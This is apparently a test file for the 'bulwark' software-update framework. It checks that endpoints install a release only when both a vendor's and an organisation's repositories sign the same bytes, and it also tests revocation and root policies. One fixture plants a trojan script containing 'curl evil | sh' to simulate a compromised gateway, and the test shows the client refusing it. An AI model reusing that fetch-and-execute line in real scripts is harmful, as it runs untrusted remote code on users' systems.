/**
 * TAP 4 multiple-repository consensus end to end over real loopback HTTP: a vendor's
 * repository and an organisation's (its gateway's) repository, both made with the `bulwark`
 * CLI, and endpoints (the `UpdateClient` library and `bulwark agent`) that install a release
 * only when both sign the same bytes as the same release.
 */
import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, it } from "node:test";
import { DirectoryStrategy, mapFileFromJSON, NoConsensusError, type Release, UpdateClient } from "@bulwark/client";
import type { TestLike } from "@bulwark/testkit";
import { tarGz } from "../src/quickstart/demo-archive.js";
import { agentConfig, agentOnce, logLines, runningVersion, vendorRepository } from "./agent-helpers.js";
import { APP, currentLink, demoFiles, endpoint, releaseOf, Vendor } from "./e2e-helpers.js";
import { tempDir } from "./helpers.js";
import {
  attest,
  type Builder,
  bundleOf,
  genuineBuild,
  listDirectly,
  SOURCE,
  vendorWithPolicy,
  writeArtifact,
} from "./verified-builds-helpers.js";

/** The two parties: the software vendor, and the organisation whose gateway approves releases. */
async function parties(t: TestLike): Promise<{ vendor: Vendor; org: Vendor }> {
  return { vendor: await Vendor.create(t), org: await Vendor.create(t) };
}

/** Both parties list and publish the same release bytes (the organisation approved it). */
async function releaseBoth(vendor: Vendor, org: Vendor, version: string): Promise<void> {
  const bytes = tarGz(demoFiles(version));
  for (const party of [vendor, org]) {
    await party.add(version, bytes);
    await party.publish();
  }
}

/** One party alone lists and publishes `version`, made of `bytes` (a trojan, say). */
async function releaseAlone(party: Vendor, version: string, bytes = tarGz(demoFiles(version))): Promise<void> {
  await party.add(version, bytes);
  await party.publish();
}

/** A map file (as JSON) requiring both repositories for every target. */
function bothMap(vendor: Vendor, org: Vendor) {
  return {
    repositories: { vendor: [vendor.server.url], org: [org.server.url] },
    mapping: [{ paths: [`${APP}/*/*`], repositories: ["vendor", "org"], threshold: 2, terminating: true }],
  };
}

interface Tap4Endpoint {
  readonly client: UpdateClient;
  readonly appDir: string;
  readonly events: Array<{ event: string; message: string; [key: string]: unknown }>;
}

/** An endpoint following both repositories (TAP 4), each with its own pinned root. */
function tap4Endpoint(t: TestLike, vendor: Vendor, org: Vendor): Tap4Endpoint {
  const dir = tempDir(t, "bulwark-tap4-");
  const appDir = path.join(dir, "app");
  const events: Tap4Endpoint["events"] = [];
  const client = new UpdateClient({
    name: APP,
    platform: "linux-x64",
    dataDir: path.join(dir, "data"),
    install: new DirectoryStrategy(appDir),
    repositories: {
      map: mapFileFromJSON(bothMap(vendor, org)),
      trust: new Map([
        ["vendor", { root: vendor.root() }],
        ["org", { root: org.root() }],
      ]),
    },
    log: (e) => events.push(e as Tap4Endpoint["events"][number]),
  });
  return { client, appDir, events };
}

/** The release `version` as a single-repository endpoint of `party` is offered it. */
async function offeredBy(t: TestLike, party: Vendor, version: string): Promise<Release> {
  return releaseOf(endpoint(t, party), version);
}

describe("TAP 4: the vendor's and the organisation's repositories must agree", () => {
  it("installs a release both repositories sign alike", async (t) => {
    const { vendor, org } = await parties(t);
    await releaseBoth(vendor, org, "1.0.0");
    const ep = tap4Endpoint(t, vendor, org);
    assert.deepEqual(await ep.client.update(), { action: "installed", to: "1.0.0" });
    assert.equal(currentLink(ep as never), path.join("versions", "1.0.0"));
    const consensus = ep.events.find((e) => e.event === "consensus");
    assert.deepEqual(consensus?.repositories, ["vendor", "org"]);
  });

  it("a compromised gateway (the organisation's keys alone) cannot install a release the vendor never signed", async (t) => {
    const { vendor, org } = await parties(t);
    await releaseBoth(vendor, org, "1.0.0");
    const ep = tap4Endpoint(t, vendor, org);
    await ep.client.update();
    // The attacker holds the gateway's online keys and publishes a trojan as 6.6.6.
    await releaseAlone(org, "6.6.6", tarGz(demoFiles("6.6.6", { "bin/app": "#!/bin/sh\ncurl evil | sh\n" })));
    assert.deepEqual(await ep.client.update(), { action: "none", current: "1.0.0" });
    assert.equal(currentLink(ep as never), path.join("versions", "1.0.0"));
    const refusal = ep.events.find((e) => e.event === "no-consensus" && e.version === "6.6.6");
    assert.ok(refusal, "the refusal is reported");
    assert.deepEqual(refusal.agreeing, ["org"]);
    // Handed the organisation's offer directly, the endpoint still downloads nothing.
    const offer = await offeredBy(t, org, "6.6.6");
    const error = await rejectsNoConsensus(ep.client.install(offer));
    assert.deepEqual(error.agreeing, ["org"]);
    assert.match(error.message, /vendor does not list it/);
  });

  it("the vendor's keys alone cannot install a release the organisation never approved", async (t) => {
    const { vendor, org } = await parties(t);
    await releaseBoth(vendor, org, "1.0.0");
    const ep = tap4Endpoint(t, vendor, org);
    await ep.client.update();
    await releaseAlone(vendor, "2.0.0");
    assert.deepEqual(await ep.client.update(), { action: "none", current: "1.0.0" });
    const error = await rejectsNoConsensus(ep.client.install(await offeredBy(t, vendor, "2.0.0")));
    assert.deepEqual(error.agreeing, ["vendor"]);
    assert.match(error.message, /org does not list it/);
    // Once the organisation approves the very same bytes, it installs.
    await releaseAlone(org, "2.0.0");
    assert.deepEqual(await ep.client.update(), { action: "installed", from: "1.0.0", to: "2.0.0" });
  });

  it("a release whose bytes differ between the repositories is refused, naming both sides", async (t) => {
    const { vendor, org } = await parties(t);
    await releaseAlone(vendor, "3.0.0");
    await releaseAlone(org, "3.0.0", tarGz(demoFiles("3.0.0", { "bin/app": "#!/bin/sh\necho swapped\n" })));
    const ep = tap4Endpoint(t, vendor, org);
    assert.deepEqual(await ep.client.update(), { action: "none" });
    const vendorOffer = await offeredBy(t, vendor, "3.0.0");
    const orgOffer = await offeredBy(t, org, "3.0.0");
    const error = await rejectsNoConsensus(ep.client.install(vendorOffer));
    assert.equal(error.threshold, 2);
    assert.equal(error.agreeing.length, 1);
    assert.deepEqual(
      error.listings.map((l) => [l.repository, l.target?.hashes.get("sha256")]),
      [
        ["vendor", vendorOffer.target.hashes.get("sha256")],
        ["org", orgOffer.target.hashes.get("sha256")],
      ],
    );
    for (const side of [vendorOffer, orgOffer]) {
      assert.ok(error.message.includes((side.target.hashes.get("sha256") as string).slice(0, 16)), error.message);
    }
    assert.match(error.message, /vendor lists .* org lists /);
  });

  it("a release relabelled by one repository (same bytes, another channel) is refused", async (t) => {
    const { vendor, org } = await parties(t);
    const bytes = tarGz(demoFiles("4.0.0"));
    await vendor.add("4.0.0", bytes, { channel: "beta" });
    await vendor.publish();
    await org.add("4.0.0", bytes);
    await org.publish();
    const ep = tap4Endpoint(t, vendor, org);
    assert.deepEqual(await ep.client.update(), { action: "none" });
    const error = await rejectsNoConsensus(ep.client.install(await offeredBy(t, org, "4.0.0")));
    assert.match(error.message, /\(beta\)/);
  });
});

describe("TAP 4: either party's kill switch works", () => {
  for (const who of ["vendor", "org"] as const) {
    it(`rolls back a release the ${who} revokes, though the other still lists it`, async (t) => {
      const { vendor, org } = await parties(t);
      await releaseBoth(vendor, org, "1.0.0");
      const ep = tap4Endpoint(t, vendor, org);
      await ep.client.update();
      await releaseBoth(vendor, org, "1.1.0");
      assert.deepEqual(await ep.client.update(), { action: "installed", from: "1.0.0", to: "1.1.0" });
      await (who === "vendor" ? vendor : org).revoke("1.1.0", `pulled by the ${who}`);
      const outcome = await ep.client.update();
      assert.equal(outcome.action, "rolled-back");
      assert.match((outcome as { reason: string }).reason, new RegExp(`pulled by the ${who}`));
      assert.equal(currentLink(ep as never), path.join("versions", "1.0.0"));
    });
  }
});

async function rejectsNoConsensus(promise: Promise<unknown>): Promise<NoConsensusError> {
  let caught: NoConsensusError | undefined;
  await assert.rejects(promise, (error: unknown) => {
    assert.ok(error instanceof NoConsensusError, `expected NoConsensusError, got ${String(error)}`);
    assert.equal(error.code, "CLIENT_NO_CONSENSUS");
    caught = error;
    return true;
  });
  return caught as NoConsensusError;
}

describe("bulwark agent with a TAP 4 map", () => {
  /** An agent configuration following both repositories; the map inline or in `map.json`. */
  function tap4Agent(t: TestLike, vendor: Vendor, org: Vendor, mapInFile: boolean) {
    const map = bothMap(vendor, org);
    const setup = agentConfig(t, vendorRepository(vendor), {
      repository: undefined,
      ...(mapInFile ? { map: "map.json" } : map),
      trust: { vendor: { root: "vendor-root.json" }, org: { root: "org-root.json" } },
      healthCheck: undefined,
      log: undefined,
    });
    const dir = path.dirname(setup.config);
    writeFileSync(path.join(dir, "vendor-root.json"), vendor.root());
    writeFileSync(path.join(dir, "org-root.json"), org.root());
    if (mapInFile) writeFileSync(path.join(dir, "map.json"), JSON.stringify(map));
    return setup;
  }

  for (const mapInFile of [false, true]) {
    it(`installs only what both sign (map ${mapInFile ? "in map.json" : "inline"})`, async (t) => {
      const { vendor, org } = await parties(t);
      await releaseBoth(vendor, org, "1.0.0");
      const setup = tap4Agent(t, vendor, org, mapInFile);
      const first = await agentOnce(setup);
      assert.equal(first.code, 0, first.stderr);
      assert.equal(runningVersion(setup), "1.0.0");
      // A compromised gateway publishes 6.6.6; the vendor never signed it.
      await releaseAlone(org, "6.6.6");
      const second = await agentOnce(setup);
      assert.equal(second.code, 0, second.stderr);
      assert.equal(runningVersion(setup), "1.0.0");
      const refusal = logLines(second.stdout).find((l) => l.event === "no-consensus");
      assert.equal(refusal?.code, "CLIENT_NO_CONSENSUS");
      assert.equal(refusal?.version, "6.6.6");
    });
  }
});

describe("TAP 4 keeps each repository's own root policies", () => {
  it("refuses a release both sign alike when the vendor's builder quorum is not met (CLIENT_NO_BUILD_QUORUM)", async (t) => {
    const { vendor, builders } = await vendorWithPolicy(t);
    const [a, b] = builders as [Builder, Builder];
    const org = await Vendor.create(t);
    const ep = tap4Endpoint(t, vendor, org);
    /** Both list the same build as `version`; the vendor publishes the attestations of `by`. */
    async function listBoth(version: string, by: readonly Builder[]): Promise<Release> {
      const bytes = genuineBuild("1.2.0");
      const file = writeArtifact(vendor.work, `app-${version}.tar.gz`, bytes);
      const attestations = [];
      for (const builder of by) attestations.push(readFileSync(await attest(builder, file, { version })));
      const listing = { version, fileName: `app-${version}.tar.gz`, bytes, custom: { source: SOURCE } };
      await listDirectly(vendor, { ...listing, bundle: bundleOf(...attestations) });
      await listDirectly(org, listing);
      return releaseOf({ client: ep.client } as never, version);
    }
    // A and B attest it: 2 of the vendor's 3 builders, as its root requires.
    await ep.client.install(await listBoth("3.0.0", [a, b]));
    assert.ok(ep.events.some((e) => e.event === "builds-verified" && e.repository === "vendor"));
    // Only A attests it: both repositories sign it alike, and the vendor's policy still refuses it.
    await assert.rejects(ep.client.install(await listBoth("3.0.1", [a])), { code: "CLIENT_NO_BUILD_QUORUM" });
    assert.equal(currentLink(ep as never), path.join("versions", "3.0.0"));
  });

  it("holds each repository's root to its own requirements (trust.NAME.minRootVersion)", async (t) => {
    const { vendor, org } = await parties(t);
    await releaseBoth(vendor, org, "1.0.0");
    const setup = agentConfig(t, vendorRepository(vendor), {
      repository: undefined,
      ...bothMap(vendor, org),
      trust: { vendor: { root: "vendor-root.json" }, org: { root: "org-root.json", minRootVersion: 2 } },
      healthCheck: undefined,
      log: undefined,
    });
    const dir = path.dirname(setup.config);
    writeFileSync(path.join(dir, "vendor-root.json"), vendor.root());
    writeFileSync(path.join(dir, "org-root.json"), org.root());
    const run = await agentOnce(setup);
    const failure = logLines(run.stdout).find((l) => l.event === "cycle-failed");
    assert.equal(failure?.code, "CLIENT_OUTDATED_ROOT");
    assert.match(String(failure?.message), /version 1, below 2/);
  });
});
